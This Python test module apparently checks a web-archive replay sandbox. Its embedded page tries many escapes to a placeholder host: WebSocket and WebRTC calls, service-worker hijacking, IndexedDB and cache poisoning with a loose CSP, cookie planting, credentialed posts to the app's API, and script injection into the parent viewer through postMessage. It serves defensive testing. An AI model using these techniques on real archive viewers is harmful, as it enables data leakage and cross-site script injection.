"""Ways out of interactive replay: scripts of an archived page that know how it is replayed, and try every door."""

from __future__ import annotations

PAGE = """<!doctype html><html><head><title>escapes</title></head><body><p id=p>escapes</p><script>
const ran = (name) => console.log('RAN ' + name);
// The real window and its fresh functions, whatever a replay program has put before them.
const W = Function('return this')();
const fresh = () => { const f = W.document.createElement('iframe'); W.document.body.append(f); return f; };
const LIVE = 'http://HOST:PORT/', HOME = Function('return location.origin')();
const RTC = (w, how) => {
  const kind = w && (w.RTCPeerConnection || w.webkitRTCPeerConnection);
  if (!kind) { ran('without RTC: ' + how); return; }
  ran('WITH RTC: ' + how);
  const p = new kind({iceServers: [{urls: 'stun:127.0.0.1:PORT_ONLY'}]});
  p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));
};
const WAYS = {
  image: () => { new W.Image().src = LIVE + 'image'; },
  fetch: () => W.fetch(LIVE + 'fetch', {mode: 'no-cors'}),
  keepalive: () => W.fetch(LIVE + 'keepalive', {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}),
  freshfetch: () => fresh().contentWindow.fetch(LIVE + 'freshfetch', {mode: 'no-cors'}),
  xhr: () => { const x = new W.XMLHttpRequest(); x.open('GET', LIVE + 'xhr'); x.send(); },
  beacon: () => W.navigator.sendBeacon(LIVE + 'beacon', 'x'),
  events: () => new W.EventSource(LIVE + 'events'),
  socket: () => new W.WebSocket('ws://HOST:PORT/socket'),
  freshsocket: () => new (fresh().contentWindow.WebSocket)('ws://HOST:PORT/freshsocket'),
  transport: () => W.WebTransport && new W.WebTransport('https://HOST:PORT/transport'),
  load: () => W.eval("import('" + LIVE + "module.js')"),
  script: () => { const s = W.document.createElement('script'); s.src = LIVE + 'script.js'; W.document.head.append(s); },
  style: () => { const s = new W.CSSStyleSheet(); s.replaceSync('p{background:url(' + LIVE + 'adopted.png)}'); W.document.adoptedStyleSheets = [s]; },
  font: () => new W.FontFace('z', 'url(' + LIVE + 'font.woff)').load(),
  audio: () => new W.Audio(LIVE + 'audio').play(),
  unsafe: () => { const d = W.document.createElement('div'); W.document.body.append(d); d.setHTMLUnsafe('<template shadowrootmode=open><img src=' + LIVE + 'shadow></template><iframe src=' + LIVE + 'unsafeframe></iframe>'); },
  adopted: () => { const d = new W.DOMParser().parseFromString('<iframe src=' + LIVE + 'adopted></iframe><img src=' + LIVE + 'adoptedimg>', 'text/html'); while (d.body.firstChild) W.document.body.append(d.body.firstChild); },
  template: () => { const t = W.document.createElement('template'); t.innerHTML = '<iframe src=' + LIVE + 'template></iframe>'; W.document.body.append(t.content.cloneNode(true)); },
  parsed: () => { if (W.Document.parseHTMLUnsafe) W.document.body.append(W.Document.parseHTMLUnsafe('<iframe src=' + LIVE + 'parsed></iframe>').body.firstChild); },
  fragment: () => { const r = W.document.createRange(); r.selectNode(W.document.body); W.document.body.append(r.createContextualFragment('<iframe src=' + LIVE + 'fragment></iframe>')); },
  links: () => { for (const rel of ['preload', 'prefetch', 'modulepreload', 'prerender', 'stylesheet', 'icon', 'manifest']) {
    const l = W.document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = LIVE + rel; W.document.head.append(l); } },
  speculate: () => { const s = W.document.createElement('script'); s.type = 'speculationrules';
    s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: [LIVE + 'speculate'], eagerness: 'immediate'}]}); W.document.head.append(s); },
  refresh: () => { const f = fresh(); f.contentDocument.write('<meta http-equiv=refresh content="0;url=' + LIVE + 'refresh">'); f.contentDocument.close(); },
  frame: () => { fresh().src = LIVE + 'frame'; },
  framelocation: () => { fresh().contentWindow.location = LIVE + 'framelocation'; },
  dataframe: () => { fresh().src = 'data:text/html,<img src=' + LIVE + 'dataframe><script>new WebSocket("ws://HOST:PORT/datasocket")<' + '/script>'; },
  blobframe: () => { fresh().src = W.URL.createObjectURL(new W.Blob(['<img src=' + LIVE + 'blobframe><script>new WebSocket("ws://HOST:PORT/blobsocket")<' + '/script>'], {type: 'text/html'})); },
  srcdoc: () => { fresh().srcdoc = '<img src=' + LIVE + 'srcdoc><script>new WebSocket("ws://HOST:PORT/srcdocsocket")<' + '/script>'; },
  javascript: () => { fresh().src = 'javascript:new Image().src="' + LIVE + 'javascript"'; },
  form: () => { const f = W.document.createElement('form'); f.action = LIVE + 'form'; f.method = 'post'; f.target = '_blank'; W.document.body.append(f); f.submit(); },
  formhere: () => { const i = fresh(); i.name = 'formframe'; const f = W.document.createElement('form'); f.action = LIVE + 'formhere'; f.target = 'formframe'; W.document.body.append(f); f.submit(); },
  blobworker: () => new W.Worker(W.URL.createObjectURL(new W.Blob(['fetch("' + LIVE + 'blobworker",{mode:"no-cors"});new WebSocket("ws://HOST:PORT/workersocket");importScripts("' + LIVE + 'imported.js")']))),
  dataworker: () => new W.Worker('data:text/javascript,fetch("' + LIVE + 'dataworker",{mode:"no-cors"});new WebSocket("ws://HOST:PORT/datasocket2")'),
  pathworker: () => new W.Worker(HOME + '/w/archive/2026id_/' + LIVE + 'worker.js'),
  shared: () => new W.SharedWorker(HOME + '/w/archive/2026id_/' + LIVE + 'worker.js', 'x'),
  sharedblob: () => new W.SharedWorker(W.URL.createObjectURL(new W.Blob(['fetch("' + LIVE + 'sharedblob",{mode:"no-cors"})']))),
  worklet: () => W.CSS.paintWorklet && W.CSS.paintWorklet.addModule(LIVE + 'worklet.js'),
  object: () => { const o = W.document.createElement('object'); o.data = LIVE + 'object'; W.document.body.append(o); },
  embed: () => { const o = W.document.createElement('embed'); o.src = LIVE + 'embed'; W.document.body.append(o); },
  svg: () => { fresh().src = HOME + '/w/archive/2026if_/' + LIVE + 'evil.svg'; },
  xhtml: () => { fresh().src = HOME + '/w/archive/2026if_/' + LIVE + 'page.xhtml'; },
  asis: () => { for (const m of ['id_', 'dl_', 'wkrf_', 'id_|', 'js_', 'wkr_', '$a', '']) fresh().src = HOME + '/w/archive/2026' + m + '/' + LIVE + 'rtc.html'; },
  rawframe: () => { fresh().src = HOME + '/raw/2026id_/' + LIVE + 'rtc.html'; },
  notfound: () => { fresh().src = HOME + '/w/archive/2026mp_/' + LIVE + 'nothing<' + '/script><script>new WebSocket("ws://HOST:PORT/notfound")<' + '/script>'; },
  rtc: () => RTC(W, 'own'),
  rtcframe: () => RTC(fresh().contentWindow, 'contentWindow'),
  rtcdocument: () => RTC(fresh().contentDocument.defaultView, 'contentDocument'),
  rtcindex: () => { fresh(); RTC(W[W.length - 1], 'index'); },
  rtcappend: () => { const f = W.document.createElement('iframe'); W.document.body.appendChild(f); RTC(W[W.length - 1], 'appendChild'); },
  rtcbefore: () => { const f = W.document.createElement('iframe'); W.document.body.insertBefore(f, W.document.body.firstChild); RTC(W[0], 'insertBefore'); },
  rtchtml: () => { W.document.getElementById('p').innerHTML = '<iframe></iframe>'; RTC(W[W.length - 1], 'innerHTML'); RTC(W[0], 'innerHTML first'); },
  rtcadjacent: () => { W.document.body.insertAdjacentHTML('afterbegin', '<iframe></iframe>'); RTC(W[0], 'insertAdjacentHTML'); },
  rtcrange: () => { const r = W.document.createRange(); r.selectNode(W.document.getElementById('p')); r.insertNode(W.document.createElement('iframe')); RTC(W[0], 'range'); },
  rtcnested: () => { const inner = fresh().contentDocument; const f = inner.createElement('iframe'); inner.body.append(f); RTC(inner.defaultView[0], 'nested'); },
  rtcshadow: () => { const d = W.document.createElement('div'); W.document.body.append(d); d.attachShadow({mode: 'closed'}).innerHTML = '<iframe name=sh></iframe>'; RTC(W[W.length - 1], 'shadow'); },
  rtcadopt: () => { const d = new W.DOMParser().parseFromString('<iframe></iframe>', 'text/html'); W.document.body.append(W.document.adoptNode(d.body.firstChild)); RTC(W[W.length - 1], 'adopted'); },
  rtcsrcdoc: () => { const f = W.document.createElement('iframe'); f.srcdoc = '<p>x'; f.onload = () => RTC(f.contentWindow, 'srcdoc'); W.document.body.append(f); },
  rtcblob: () => { const f = W.document.createElement('iframe'); f.src = W.URL.createObjectURL(new W.Blob(['<p>x'], {type: 'text/html'})); f.onload = () => RTC(f.contentWindow, 'blob'); W.document.body.append(f); },
  rtctop: () => RTC(W.parent, 'viewer'),
  worker1: () => W.navigator.serviceWorker.register('/evil.js'),
  worker2: () => W.navigator.serviceWorker.register('/w/archive/2026id_/' + LIVE + 'worker.js'),
  worker3: () => W.navigator.serviceWorker.register('/raw/2026id_/' + LIVE + 'worker.js'),
  worker4: () => W.parent.navigator.serviceWorker.register('/raw/2026id_/' + LIVE + 'worker.js', {scope: '/raw/'}),
  worker5: () => W.parent.navigator.serviceWorker.register('/sw.js?proxyOriginMode=1', {scope: '/'}),
  worker6: () => W.parent.navigator.serviceWorker.register('/w/archive/2026js_/' + LIVE + 'worker.js', {scope: '/w/archive/2026js_/'}),
  message: () => W.parent.navigator.serviceWorker.controller.postMessage({msg_type: 'addColl', name: 'loose', type: 'live', file: {sourceUrl: 'proxy:' + LIVE},
    extraConfig: {prefix: LIVE + 'messaged/', isLive: true, csp: 'default-src * data: blob: ws: wss: \\'unsafe-inline\\' \\'unsafe-eval\\''}}),
  coll: () => W.fetch('/w/api/c/create', {method: 'POST', body: JSON.stringify({metadata: {}, extraConfig: {csp: 'default-src *'}})}).then((r) => r.text()).then((t) => ran('API ' + t.slice(0, 60))),
  database: () => { const q = W.indexedDB.open('collDB'); q.onsuccess = () => { try {
      const t = q.result.transaction('colls', 'readwrite'); for (const name of ['loose', 'archive']) t.objectStore('colls').put({name, type: 'live', config: {root: true, dbname: 'db:' + name, sourceUrl: LIVE, metadata: {},
        extraConfig: {prefix: LIVE + 'stored/', isLive: true, csp: 'default-src * data: blob: ws: wss: \\'unsafe-inline\\' \\'unsafe-eval\\''}}}); ran('database'); } catch (e) { ran('database ' + e); } }; },
  workerdatabase: () => { const text = `indexedDB.open('collDB').onsuccess = (e) => { try {
      const t = e.target.result.transaction('colls', 'readwrite'); for (const name of ['loose', 'archive']) t.objectStore('colls').put({name, type: 'live', config: {root: true, dbname: 'db:' + name,
        sourceUrl: '${LIVE}', metadata: {}, extraConfig: {prefix: '${LIVE}stored/', isLive: true, csp: "default-src * data: blob: ws: wss: 'unsafe-inline' 'unsafe-eval'"}}});
      t.oncomplete = () => console.log('RAN poisoned'); } catch (x) { console.log('RAN not poisoned ' + x); } };
      caches.open('wabac-offline').then((c) => c.put('/', new Response('<script>console.log("RAN FROM CACHE")<' + '/script>', {headers: {'Content-Type': 'text/html'}})));`;
    new W.Worker(W.URL.createObjectURL(new W.Blob([text]))); },
  loose: () => { for (const n of ['loose', 'archive']) fresh().src = HOME + '/w/' + n + '/mp_/srcdoc:' + W.btoa('<img src=' + LIVE + 'loose>'); fresh().src = HOME + '/w/loose/2026mp_/' + LIVE + 'loose.html'; },
  cookies: () => { ran('COOKIE[' + W.document.cookie + ']'); W.document.cookie = 'planted=1;path=/'; W.document.cookie = 'planted2=1;path=/;domain=archive.localhost'; },
  parentcookies: () => { ran('COOKIE[' + W.top.document.cookie + ']'); },
  app: () => W.fetch('@APP@/api/captures').then((r) => r.text()).then((t) => ran('app read ' + t.slice(0, 40))),
  appframe: () => { const f = fresh(); f.src = '@APP@/'; f.onload = () => { try { if (f.contentDocument.title !== '404') ran('app frame open ' + f.contentDocument.title); } catch (e) { ran('app frame closed'); } }; },
  apppost: () => W.fetch('@APP@/api/crawl', {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'}),
  opener: () => { W.parent.parent.postMessage({archiver: {state: 'shows', stamp: '20260301080000', url: "javascript:console.log('RAN IN THE APP')"}}, '*');
    W.parent.parent.postMessage({archiver: {state: 'shows', stamp: '../../x', url: '<img src=x onerror=console.log("RAN IN THE APP")>'}}, '*'); },
  viewer: () => W.parent.eval("parent.postMessage({archiver:{state:'shows',stamp:'20260301080000',url:'http://x/\\"><img/src=x/onerror=console.log(1)>'}},'*');new Image().src='" + LIVE + "viewerimage'"),
};
const OWN = (how) => '<script>console.log("RAN " + (self.RTCPeerConnection ? "WITH" : "without") + " RTC: ' + how + '"); if (self.RTCPeerConnection) { const p = new RTCPeerConnection({iceServers: [{urls: "stun:127.0.0.1:PORT_ONLY"}]}); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o)); }<' + '/script>';
Object.assign(WAYS, {
  ownsrcdoc: () => { fresh().srcdoc = OWN('own srcdoc'); },
  ownsandboxed: () => { const f = W.document.createElement('iframe'); f.setAttribute('sandbox', 'allow-scripts'); f.srcdoc = OWN('own sandboxed'); W.document.body.append(f); },
  ownattribute: () => { const f = fresh(); f.setAttribute('sandbox', 'allow-scripts'); f.setAttribute('srcdoc', OWN('own attribute')); },
  ownnested: () => { fresh().srcdoc = `<iframe sandbox=allow-scripts srcdoc='${OWN('own nested')}'></iframe>`; },
  ownjavascript: () => { W.own = OWN('own javascript'); fresh().src = 'javascript:parent.own'; },
  ownblob: () => { fresh().contentWindow.location = W.URL.createObjectURL(new W.Blob([OWN('own blob')], {type: 'text/html'})); },
  ownrealblob: () => { const f = fresh(); f.name = 'realblob'; Function('u', 'open(u, "realblob")')(Function('b', 'return URL.createObjectURL(b)')(new W.Blob([OWN('own real blob')], {type: 'text/html'}))); },
  ownwritten: () => { const d = fresh().contentDocument; d.open(); d.write(OWN('own written')); d.close(); },
  ownshadow: () => { const d = W.document.createElement('div'); W.document.body.append(d); d.attachShadow({mode: 'closed'}).innerHTML = `<iframe sandbox=allow-scripts srcdoc='${OWN('own shadow')}'></iframe>`; },
  ownhtml: () => { const d = W.document.createElement('div'); W.document.body.append(d); d.innerHTML = `<iframe srcdoc='${OWN('own html')}'></iframe>`; },
});
const tried = [];
for (const [name, way] of Object.entries(WAYS)) {
  try { const made = way(); if (made && made.catch) made.catch((e) => 0); tried.push(name); } catch (e) { tried.push(name); }
}
setTimeout(() => { WAYS.loose(); ran('ALL TRIED ' + tried.length); }, 1000);
</script>
<script>document.write('<iframe></iframe><script>RTC(W[W.length - 1], "written")<' + '/script>')</script>
<iframe></iframe><script>RTC(W[W.length - 1], 'parsed')</script>
<iframe sandbox=allow-scripts srcdoc="<script>console.log('RAN ' + (self.RTCPeerConnection ? 'WITH' : 'without') + ' RTC: static sandboxed')</script>"></iframe>
<iframe srcdoc="<script>console.log('RAN ' + (self.RTCPeerConnection ? 'WITH' : 'without') + ' RTC: static')</script>"></iframe></body></html>"""
"""Everything but ways in which the page leaves itself, which are pages of their own: each ends the page."""

LEAVING = {
    "top": "W.top.location = LIVE + 'top'",
    "realtop": "Function('u', 'top.location = u')(LIVE + 'realtop')",
    "toplink": "const a = W.document.createElement('a'); a.href = LIVE + 'toplink'; a.target = '_top'; W.document.body.append(a); a.click()",
    "self": "W.location = LIVE + 'self'",
    "replace": "W.location.replace(LIVE + 'replace')",
    "assign": "Function('u', 'location.assign(u)')(LIVE + 'assign')",
    "parent": "W.parent.location = LIVE + 'parent'",
    "popup": "W.open(LIVE + 'popup')",
    "realpopup": "Function('u', 'open(u)')(LIVE + 'realpopup')",
    "popuplink": "const a = W.document.createElement('a'); a.href = LIVE + 'popuplink'; a.target = '_blank'; a.ping = LIVE + 'ping'; W.document.body.append(a); a.click()",
    "link": "const a = W.document.createElement('a'); a.href = LIVE + 'link'; W.document.body.append(a); a.click()",
    "selfform": "const f = W.document.createElement('form'); f.action = LIVE + 'selfform'; W.document.body.append(f); f.submit()",
    "meta": "const m = W.document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=' + LIVE + 'meta'; W.document.head.append(m)",
    "unregister": "W.parent.navigator.serviceWorker.getRegistrations().then((all) => Promise.all(all.map((r) => r.unregister()))).then(() => { W.location.reload() })",
}
"""Ways in which a page leads its own window away."""


def leaving(name: str) -> str:
    """A page that leaves itself."""
    return (
        "<!doctype html><title>leaving</title><body><script>const W = Function('return this')(), LIVE = 'http://HOST:PORT/';"
        f"console.log('RAN {name}');{LEAVING[name]}</script></body>"
    )


RTC_PAGE = """<!doctype html><title>rtc</title><script>console.log('RAN as it is');
if (self.RTCPeerConnection) { console.log('RAN WITH RTC: as it is'); const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:PORT_ONLY'}]});
p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); }</script>"""
WORKER = """fetch('http://HOST:PORT/workerfetch', {mode: 'no-cors'}); try { new WebSocket('ws://HOST:PORT/pathsocket') } catch (e) {}
self.onfetch = (e) => e.respondWith(new Response('HIJACKED'));"""
CLICK = """<!doctype html><title>click</title><button id=b>click</button><script>
document.getElementById('b').addEventListener('click', () => {
  for (const way of ['open(u)', 'open(u, "_top")', 'top.location = u', 'top.location.replace(u)', 'parent.location = u', 'parent.parent.location = u', 'navigator.share({url: u})']) {
    try { const made = Function('u', 'return ' + way)('http://HOST:PORT/clicked'); if (made && made.catch) made.catch(() => 0); } catch (e) { }
  }
  console.log('RAN clicked');
});</script>"""
"""What a reader's click allows a page elsewhere: windows, and leading the whole window away."""
